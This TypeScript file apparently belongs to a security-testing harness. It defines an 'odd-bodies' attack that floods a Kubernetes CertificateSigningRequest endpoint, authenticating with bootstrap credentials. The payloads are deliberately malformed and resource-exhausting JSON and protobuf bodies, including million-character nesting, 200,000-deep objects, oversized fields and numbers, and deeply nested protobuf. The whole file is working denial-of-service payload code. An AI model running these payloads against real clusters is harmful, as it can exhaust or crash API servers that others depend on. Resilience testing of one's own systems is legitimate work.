import type {Attack} from '../attack.ts'
import {CSRS, inTurn} from './bodies.ts'

const PROTOBUF = 'application/vnd.kubernetes.protobuf'
const MAGIC = Buffer.from('k8s\0')
const nested = (depth: number) => {
  let inner = Buffer.alloc(0)
  for (let level = 0; level < depth; level++) {
    const length: number[] = []
    for (let left = inner.length; left > 0 || length.length === 0; left >>>= 7)
      length.push((left & 0x7f) | (left > 0x7f ? 0x80 : 0))
    inner = Buffer.concat([Buffer.of(0x12, ...length), inner])
  }
  return inner
}
const json = (body: string) => ({type: 'application/json', body})
const protobuf = (body: Buffer) => ({type: PROTOBUF, body: Buffer.concat([MAGIC, body])})

const BODIES: {type: string; body: string | Uint8Array}[] = [
  json('['.repeat(1_000_000)),
  json(`${'{"a":'.repeat(200_000)}1${'}'.repeat(200_000)}`),
  json(`{"metadata":{"name":"${'n'.repeat(1_000_000)}"}}`),
  json(`{${'"a":1,'.repeat(200_000)}"a":1}`),
  json(`{"metadata":{${Array.from({length: 60_000}, (_, n) => `"unknown${n}":1`).join(',')}}}`),
  json(`"${'\\u0000'.repeat(200_000)}"`),
  json('1'.repeat(1_000_000)),
  json(`{"spec":{"request":"${'QUJD'.repeat(250_000)}"}}`),
  json(
    `{"spec":{"request":"${Buffer.from('-----BEGIN CERTIFICATE REQUEST-----\n'.repeat(20_000)).toString('base64')}"}}`,
  ),
  json(`{"spec":{"extra":{${Array.from({length: 30_000}, (_, n) => `"k${n}":["v"]`).join(',')}}}}`),
  json(`{"spec":{"expirationSeconds":${'9'.repeat(100_000)}}}`),
  protobuf(nested(1000)),
  protobuf(Buffer.alloc(1_000_000, 0xff)),
  protobuf(Buffer.alloc(1_000_000, 0x08)),
  protobuf(Buffer.concat(Array.from({length: 200_000}, () => Buffer.of(0x12, 0x00)))),
]

/** Bodies that no client would send. */
export const oddBodies: Attack = {
  name: 'odd-bodies',
  aim: 'deep, endless and broken JSON and protobuf',
  run: ({holdings, shoot, flood}) =>
    flood({perSecond: 6, atOnce: 2}, (number) =>
      shoot(holdings.bootstrap, {
        method: 'POST',
        path: number % 3 === 0 ? `${CSRS}?dryRun=All&fieldValidation=Strict` : CSRS,
        ...inTurn(BODIES, number),
      }),
    ),
}
